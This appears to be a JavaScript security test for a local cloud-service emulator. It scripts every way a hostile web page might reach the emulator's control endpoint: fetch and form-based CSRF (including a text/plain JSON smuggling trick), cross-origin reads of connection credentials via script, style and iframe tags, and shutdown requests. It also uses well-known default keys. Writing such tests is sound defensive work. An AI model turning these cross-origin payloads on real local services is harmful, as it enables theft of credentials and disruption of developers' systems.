// What a web page can do to a server that it should not reach. The functions run in the page, so they use nothing from
// here; each attempt ends by itself, and what it could read is its result.

// Every way to send something. `base` is the victim, "http://host:port".
export async function attack(base) {
  const control = `${base}/_emulator`;
  const advance = '{"by": "1h"}';
  const patience = 3000; // ms, for what the browser may never report

  const ended = (target, ...events) => new Promise((done) => {
    AbortSignal.timeout(patience).addEventListener("abort", () => done("no event"));
    for (const event of events) target.addEventListener(event, () => done(event), { once: true });
  });
  const fetched = async (path, options = {}) => {
    const answer = await fetch(control + path, { ...options, signal: AbortSignal.timeout(patience) });
    return { status: answer.status, type: answer.type, text: await answer.text() };
  };
  const element = async (name, attributes) => {
    const node = Object.assign(document.createElement(name), attributes);
    const end = ended(node, "load", "error", "loadeddata");
    document.body.append(node);
    const event = await end;
    let text = "";
    try { text = node.contentDocument?.documentElement?.textContent ?? ""; } catch { /* of another origin */ }
    return { event, text };
  };
  const form = async (path, enctype, name, value) => {
    const frame = Object.assign(document.createElement("iframe"), { name: `frame${Math.random()}` });
    document.body.append(frame);
    const sender = Object.assign(document.createElement("form"),
      { action: control + path, method: "POST", enctype, target: frame.name });
    sender.append(Object.assign(document.createElement("input"), { name, value, type: "hidden" }));
    document.body.append(sender);
    const end = ended(frame, "load");
    sender.submit();
    await end;
    let text = "";
    try { text = frame.contentDocument?.documentElement?.textContent ?? ""; } catch { /* of another origin */ }
    return { text };
  };
  const requested = (method, path, body, headers = {}) => new Promise((done) => {
    const request = new XMLHttpRequest();
    request.open(method, control + path);
    for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
    request.onloadend = () => done({ status: request.status, text: request.responseText });
    request.send(body);
  });
  const stream = async (path) => {
    const source = new EventSource(control + path);
    const event = await ended(source, "open", "message", "error");
    source.close();
    return { event };
  };
  const socket = async (path) => {
    const connection = new WebSocket(control.replace("http", "ws") + path);
    return { event: await ended(connection, "open", "error") };
  };

  const attempts = {
    "fetch reset": () => fetched("/reset", { method: "POST" }),
    "fetch no-cors reset": () => fetched("/reset", { method: "POST", mode: "no-cors" }),
    "fetch no-cors advance": () => fetched("/clock/advance", { method: "POST", mode: "no-cors", body: advance }),
    "fetch JSON advance": () =>
      fetched("/clock/advance", { method: "POST", body: advance, headers: { "Content-Type": "application/json" } }),
    "fetch without referrer": () =>
      fetched("/reset", { method: "POST", mode: "no-cors", referrerPolicy: "no-referrer", credentials: "omit" }),
    "fetch keepalive": () => fetched("/reset", { method: "POST", mode: "no-cors", keepalive: true }),
    "fetch PUT": () => fetched("/clock", { method: "PUT", body: '{"mode": "automatic"}' }),
    "fetch DELETE": () => fetched("/journal", { method: "DELETE" }),
    "XMLHttpRequest": () => requested("POST", "/reset", ""),
    "XMLHttpRequest with a header": () => requested("POST", "/reset", "", { "X-Mine": "1" }),
    "beacon": async () => ({ sent: navigator.sendBeacon(`${control}/clock/advance`, new Blob([advance])) }),
    "form text/plain": () => form("/clock/advance", "text/plain", '{"by": "1h", "to":"', '"}'),
    "form urlencoded": () => form("/reset", "application/x-www-form-urlencoded", "a", "b"),
    "form multipart": () => form("/reset", "multipart/form-data", "a", "b"),
    "read connection": () => fetched("/connection"),
    "read connection, no-cors": () => fetched("/connection", { mode: "no-cors" }),
    "read state": () => requested("GET", "/state?full=1"),
    "read journal": () => fetched("/journal"),
    "read archive": () => fetched("/export", { cache: "no-store" }),
    "read as a script": () => element("script", { src: `${control}/connection?format=dotenv` }),
    "read as an image": () => element("img", { src: `${control}/storage/devstoreaccount1/containers/pages/blobs/a.png` }),
    "read as a style": () => element("link", { rel: "stylesheet", href: `${control}/connection?format=shell` }),
    "read as a frame": () => element("iframe", { src: `${control}/connection` }),
    "read as an object": () => element("object", { data: `${control}/connection`, type: "text/html" }),
    "read as a video": () => element("video", { src: `${control}/export`, preload: "auto" }),
    "event stream": () => stream("/journal"),
    "web socket": () => socket("/journal"),
    "fetch shutdown": () => fetched("/shutdown", { method: "POST", mode: "no-cors" }),
    "form shutdown": () => form("/shutdown", "text/plain", "a", "b"),
  };
  const attempted = async ([name, attempt]) => {
    try {
      return [name, await attempt()];
    } catch (error) {
      return [name, { error: String(error) }];
    }
  };
  // The end last, so that the others meet somebody.
  const [ends, others] = [true, false].map((end) =>
    Object.entries(attempts).filter(([name]) => name.includes("shutdown") === end));
  const results = await Promise.all(others.map(attempted));
  return Object.fromEntries([...results, ...await Promise.all(ends.map(attempted))]);
}

// The services' own endpoints from a page that was served under their name: reads and writes with keys that anybody knows.
export async function useServices(vision, blobs, queues) {
  const read = async (url, options) => {
    const answer = await fetch(url, options);
    return { status: answer.status, text: await answer.text() };
  };
  const results = {};
  const key = { headers: { "Training-Key": "any" } };
  const attempts = {
    "list projects": () => read(`${vision}/customvision/v3.3/training/projects`, key),
    "create a project": () => read(`${vision}/customvision/v3.3/training/projects?name=theirs`, { method: "POST", ...key }),
    "read a blob": () => read(blobs),
    "put a message": () => read(queues, { method: "POST", body: "<QueueMessage><MessageText>x</MessageText></QueueMessage>" }),
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      results[name] = await attempt();
    } catch (error) {
      results[name] = { error: String(error) };
    }
  }
  return results;
}
